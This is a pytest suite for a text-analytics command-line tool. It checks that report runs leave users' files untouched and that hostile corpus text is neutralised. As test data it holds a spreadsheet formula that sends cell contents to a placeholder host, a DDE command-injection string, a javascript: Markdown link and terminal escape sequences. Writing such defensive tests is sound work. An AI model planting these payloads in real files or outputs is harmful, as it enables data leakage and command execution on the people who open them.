"""Hostile input at the command line: a run never touches a user's files, and corpus text stays inert.

Each case runs the CLI in-process and asserts the exit status, one error line naming
what to fix, no traceback, and that nothing outside ``--out`` was created, changed or
deleted (a snapshot of the surrounding folder before and after). Corpus-level cases
(encodings, ragged CSV, FIFOs, ...) are in test_corpus_hostile.py, config values in
test_config_validation.py, ``--verify`` in test_report_verify.py, signals in test_signals.py.
"""

from __future__ import annotations

import csv
import re
import hashlib
import json
import os
from pathlib import Path

import pandas as pd
import pytest

from textanalytics.cli import main
from textanalytics.output_folder import REPORT_MARKER, check_output_folder, write_report_marker
from textanalytics.report.io import spreadsheet_safe, unique_stems, write_csv
from textanalytics.errors import InputError

TOPICS = ["terrorism financing sanctions", "border control migration", "cyber security information"]
HOSTILE = ['=HYPERLINK("http://x/?q="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


def snapshot(root: Path, *, skip: Path | None = None) -> dict[str, str]:
    """Relative path -> SHA-256 (or 'dir') of everything under ``root`` except ``skip``."""
    out = {}
    for p in sorted(root.rglob("*")):
        if skip is not None and (p == skip or skip in p.parents):
            continue
        out[p.relative_to(root).as_posix()] = "dir" if p.is_dir() else hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def one_error_line(err: str) -> str:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1, err
    assert lines[0].startswith("error: ") and "Traceback" not in err
    return lines[0]


@pytest.fixture(scope="module")
def project_cache(tmp_path_factory) -> Path:
    """One analysis cache for every ``project`` (the same corpus each time), outside the project folders:
    the first report fills it, the others read tokens, fits and figures back."""
    return tmp_path_factory.mktemp("project_cache")


@pytest.fixture
def project(tmp_path, monkeypatch, project_cache):
    """A researcher's project folder: a folder corpus, a config, their own notes; cwd is the project."""
    texts = tmp_path / "texts"
    texts.mkdir()
    rows = []
    for i in range(6):
        (texts / f"s{i}.txt").write_text(f"Statement {i} on {TOPICS[i % 3]} and cooperation.\n", encoding="utf-8")
        rows.append({"file": f"s{i}.txt", "date": f"201{6 + i % 3}-01-0{i + 1}", "speaker": "A" if i % 2 else "B"})
    pd.DataFrame(rows).to_csv(texts / "metadata.csv", index=False)
    cfg = tmp_path / "analysis.toml"
    cfg.write_text(f"[corpus]\npath = 'texts'\n[preprocess]\ncache_dir = '{project_cache.as_posix()}'\n"
                   "[topics]\nk = 2\nn_seeds = 1\n", encoding="utf-8")
    thesis = tmp_path / "thesis"
    thesis.mkdir()
    (thesis / "chapter1.docx").write_bytes(b"PK\x03\x04 my chapter")
    (tmp_path / "notes.txt").write_text("my notes", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize("out, needle", [
    ("thesis", "no textanalytics report marker"),
    (".", "is the current folder"),
    ("texts", "is the corpus"),
    ("notes.txt", "is a file"),
    ("analysis.toml", "is a file"),
    ("/", "filesystem root"),
    ("..", "contains the current folder"),
    ("~", "home folder"),
    ("texts/..", "is the current folder"),
])
def test_report_refuses_folders_it_did_not_write(project, capsys, out, needle):
    before = snapshot(project)
    code, _, err = run(capsys, "report", "--config", "analysis.toml", "--out", out, "-q")
    assert code == 2
    assert needle in one_error_line(err)
    assert snapshot(project) == before


def test_report_refuses_a_folder_that_contains_the_corpus(project, capsys):
    nested = project / "data"
    nested.mkdir()
    os.replace(project / "texts", nested / "texts")
    before = snapshot(project)
    code, _, err = run(capsys, "report", "--config", "analysis.toml", "--corpus", "data/texts", "--out", "data", "-q")
    assert code == 2 and "contains the corpus" in one_error_line(err)
    assert snapshot(project) == before


def test_report_refuses_a_symlink_and_a_report_folder_holding_user_files(project, capsys):
    (project / "link").symlink_to(project / "thesis")
    before = snapshot(project)
    code, _, err = run(capsys, "report", "--config", "analysis.toml", "--out", "link", "-q")
    assert code == 2 and "symbolic link" in one_error_line(err)
    old = project / "old_report"
    old.mkdir()
    (old / "report.md").write_text("# old", encoding="utf-8")
    write_report_marker(old, ["report.md"])
    (old / "my_notes.md").write_text("added by the user", encoding="utf-8")
    before = snapshot(project)
    code, _, err = run(capsys, "report", "--config", "analysis.toml", "--out", "old_report", "-q")
    assert code == 2 and "my_notes.md" in one_error_line(err)
    assert snapshot(project) == before


def test_damaged_or_foreign_marker_is_not_ownership(project):
    folder = project / "r"
    folder.mkdir()
    (folder / REPORT_MARKER).write_text("{not json", encoding="utf-8")
    with pytest.raises(InputError, match="no textanalytics report marker"):
        check_output_folder(folder)
    (folder / REPORT_MARKER).write_text(json.dumps({"format": "other/1", "files": []}), encoding="utf-8")
    with pytest.raises(InputError, match="no textanalytics report marker"):
        check_output_folder(folder)


@pytest.mark.parametrize("argv, needle", [
    (["preprocess", "--config", "analysis.toml", "-o", "notes.txt"], "unsupported output format"),
    (["preprocess", "--config", "analysis.toml", "-o", "texts/tokens.csv"], "inside the corpus"),
    (["preprocess", "--config", "analysis.toml", "-o", "thesis/../old.parquet", "--quiet"], None),
    (["preprocess", "--config", "analysis.toml", "--store", "thesis"], "no token store manifest"),
    (["preprocess", "--config", "analysis.toml", "--store", "."], "is the current folder"),
    (["preprocess", "--config", "analysis.toml", "--store", "notes.txt"], "is a file"),
])
def test_preprocess_outputs_never_replace_user_files(project, capsys, argv, needle):
    if needle is None:  # an existing file of the user's is never overwritten
        (project / "old.parquet").write_bytes(b"mine")
        needle = "already exists"
    before = snapshot(project)
    code, _, err = run(capsys, *argv)
    assert code == 2 and needle in one_error_line(err)
    assert snapshot(project) == before


def test_store_with_a_damaged_manifest_is_kept(project, capsys):
    store = project / "store"
    store.mkdir()
    (store / "manifest.json").write_text("{cut sho", encoding="utf-8")
    (store / "other.txt").write_text("x", encoding="utf-8")
    before = snapshot(project)
    code, _, err = run(capsys, "preprocess", "--config", "analysis.toml", "--store", "store")
    assert code == 2 and "does not parse" in one_error_line(err)
    assert snapshot(project) == before


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    """One report of a corpus whose metadata attacks spreadsheets, Markdown and terminals."""
    root = tmp_path_factory.mktemp("hostile")
    speakers = HOSTILE + ["<b>bold</b> [x](javascript:alert(1))", "Lab", "lab", "a.b" * 40, "a.b" * 40 + "z"]
    rows = []
    for i in range(24):
        rows.append({"id": f"d{i:02d}", "speaker": speakers[i % len(speakers)], "year": 2016 + i % 3,
                     "text": f"Security cooperation {i} \x1b[31mred\x00 terrorism financing border control "
                             f"sanctions {'alpha' if i % 2 else 'beta'} dialogue."})
    rows.append({"id": "bad", "speaker": "X", "year": 2017, "text": "   "})  # skipped: empty text
    pd.DataFrame(rows).to_csv(root / "c.csv", index=False)
    (root / "a.toml").write_text(
        "[corpus]\npath = 'c.csv'\nid_col = 'id'\non_error = 'skip'\n[preprocess]\ncache_dir = ''\n"
        "[compare]\ngroup_by = ['speaker', 'year']\n[topics]\nk = 2\nn_seeds = 1\n", encoding="utf-8")
    out = root / "out"
    code = main(["report", "--config", str(root / "a.toml"), "--out", str(out), "--quiet"])
    return code, out


def test_hostile_report_runs(hostile_report):
    code, out = hostile_report
    assert code == 0 and (out / REPORT_MARKER).is_file()


def test_formula_cells_are_neutralised_in_every_csv(hostile_report):
    _, out = hostile_report
    for path in (out / "tables").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                    if cell.startswith("-"):
                        float(cell)  # only numbers may start with a minus
    statements = (out / "tables" / "statements.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in statements and "'@SUM(1+1)" in statements


def test_markdown_outputs_escape_html(hostile_report):
    _, out = hostile_report
    for path in [out / "report.md", *(out / "tables").glob("*.md")]:
        text = path.read_text(encoding="utf-8")
        assert "<b>" not in text and not re.search(r"(?<!\\)\]\(javascript", text), path.name
    assert "&lt;b&gt;bold&lt;/b&gt;" in (out / "tables" / "statements.md").read_text(encoding="utf-8")
    assert "<b>bold" not in (out / "index.html").read_text(encoding="utf-8")


def test_no_control_characters_reach_any_output(hostile_report):
    _, out = hostile_report
    for path in out.rglob("*"):
        if path.is_file() and path.suffix in (".csv", ".md", ".html", ".json", ".svg"):
            text = path.read_text(encoding="utf-8")
            assert "\x00" not in text and "\x1b" not in text, path.name
    cleaning = pd.read_csv(out / "tables" / "cleaning.csv")
    assert (cleaning.loc[cleaning["rule"] == "control_characters", "n_removed_chars"] > 0).all()
    assert (cleaning["rule"] == "control_characters").sum() == 24


def test_skipped_records_are_listed_everywhere(hostile_report):
    _, out = hostile_report
    problems = pd.read_csv(out / "tables" / "problems.csv", keep_default_na=False)
    skipped = problems[problems["action"] == "skipped"]
    assert len(skipped) == 1 and skipped["line"].tolist() == ["26"] and skipped["field"].tolist() == ["text"]
    md = (out / "report.md").read_text(encoding="utf-8").splitlines()
    assert any("1 record was skipped" in line for line in md[:6])
    assert "1 record was skipped" in (out / "index.html").read_text(encoding="utf-8")
    run_json = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert run_json["problems"]["skipped"] == 1
    assert any("differ only in case" in p for p in problems["problem"])  # Lab vs lab: warned, kept apart


def test_file_names_are_distinct_and_listed_once(hostile_report):
    _, out = hostile_report
    run_json = json.loads((out / "run.json").read_text(encoding="utf-8"))
    outputs = run_json["outputs"]
    assert len(outputs) == len(set(outputs))
    on_disk = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}
    assert on_disk == set(outputs)
    figures = [p.name for p in (out / "figures").iterdir()]
    assert all(p.endswith((".png", ".svg")) for p in figures)
    assert len({f.lower() for f in figures}) == len(figures)


def test_quiet_run_still_reports_skipped_records_on_stderr(tmp_path, capsys):
    pd.DataFrame({"id": [f"d{i}" for i in range(7)],
                  "text": [TOPICS[i % 3] + " talk" if i != 3 else "" for i in range(7)]}).to_csv(
        tmp_path / "c.csv", index=False)
    (tmp_path / "a.toml").write_text("[corpus]\npath = 'c.csv'\nid_col = 'id'\non_error = 'skip'\n"
                                     "[preprocess]\ncache_dir = ''\n[compare]\ngroup_by = []\n", encoding="utf-8")
    code, out, err = run(capsys, "report", "--config", str(tmp_path / "a.toml"), "--out", str(tmp_path / "r"), "-q")
    assert code == 0 and out == ""
    warning = [line for line in err.splitlines() if line.startswith("warning:")]
    assert len(warning) == 1 and "1 record was skipped" in warning[0] and "problems.csv" in warning[0]


def test_report_inside_a_folder_corpus_does_not_hash_itself(project, capsys):
    code, _, err = run(capsys, "report", "--config", "analysis.toml", "--out", "texts/reports", "-q")
    assert code == 0, err
    inputs = json.loads((project / "texts" / "reports" / "run.json").read_text(encoding="utf-8"))["inputs"]
    assert inputs and not any(name.startswith("reports") for name in inputs)
    # and a second run may replace it (it holds the marker and only what the report wrote)
    code, _, err = run(capsys, "report", "--config", "analysis.toml", "--out", "texts/reports", "-q")
    assert code == 0, err


def test_umask_is_respected(project, capsys):
    old = os.umask(0o077)
    try:
        code, _, err = run(capsys, "report", "--config", "analysis.toml", "--out", "r", "-q")
    finally:
        os.umask(old)
    assert code == 0, err
    assert (project / "r").stat().st_mode & 0o777 == 0o700
    assert (project / "r" / "report.md").stat().st_mode & 0o077 == 0


def test_read_only_output_parent_is_one_line(project, capsys, monkeypatch):
    ro = project / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    if os.geteuid() == 0:
        # root ignores folder permissions: let the kernel's answer for a non-root user
        # come from os.mkdir itself (tempfile.mkdtemp and Path.mkdir both go through it).
        real_mkdir = os.mkdir

        def refusing_mkdir(path, *args, **kwargs):
            if Path(path).resolve().parent == ro.resolve():
                raise PermissionError(13, "Permission denied", str(path))
            return real_mkdir(path, *args, **kwargs)

        monkeypatch.setattr(os, "mkdir", refusing_mkdir)
    try:
        code, _, err = run(capsys, "report", "--config", "analysis.toml", "--out", "ro/r", "-q")
    finally:
        ro.chmod(0o755)
    assert code == 2 and "ro" in one_error_line(err)
    assert sorted(p.name for p in ro.iterdir()) == []


def test_write_error_is_one_line_and_keeps_the_previous_report(project, capsys, monkeypatch):
    """A full disk while writing: one line naming the path; the previous report stays in place."""
    code, _, _ = run(capsys, "report", "--config", "analysis.toml", "--out", "r", "-q")
    assert code == 0
    before = snapshot(project)
    import textanalytics.report.build as build

    def full_disk(*args, **kwargs):
        raise OSError(28, "No space left on device", str(project / "r" / "report.md"))

    monkeypatch.setattr(build, "_render_markdown", full_disk)
    code, _, err = run(capsys, "report", "--config", "analysis.toml", "--out", "r", "-q")
    line = one_error_line(err)
    assert code == 2 and "No space left on device" in line and "report.md" in line
    assert snapshot(project) == before


def test_control_characters_never_reach_the_terminal(project, capsys):
    code, _, err = run(capsys, "report", "--config", "analysis.toml", "--out", "bad\x1b[31mname\x07", "-q")
    assert code == 0 or code == 2
    assert "\x1b" not in err and "\x07" not in err
    code, _, err = run(capsys, "corpus", "no\x1b]0;title\x07such", "-q")
    assert code == 2 and "\x1b" not in err and "\\x1b" in one_error_line(err)


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"), ("+44 20 7946", "'+44 20 7946"), ("-3.5", "-3.5"), ("@SUM(1)", "'@SUM(1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Lavrov", "Lavrov"), ("\uff1d1+1", "'\uff1d1+1"), (3, 3),
])
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


def test_numbers_stay_numbers_in_csv(tmp_path):
    write_csv(pd.DataFrame({"x": [-1.5, 2.0], "s": ["-1", "=A1"]}), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8").splitlines() == ["x,s", "-1.5,-1", "2,'=A1"]


def test_unique_stems_never_collide():
    names = ["Lab", "lab", "a/b", "a_b", "x" * 100, "x" * 100 + "y", "dr.no", "keyness_party_A_vs_B"]
    stems = unique_stems(names)
    assert len(set(s.lower() for s in stems.values())) == len(names)
    assert stems["dr.no"] == "dr.no" and stems["keyness_party_A_vs_B"] == "keyness_party_a_vs_b"
    assert all(len(s) <= 80 and "/" not in s for s in stems.values())
    assert unique_stems(names) == stems
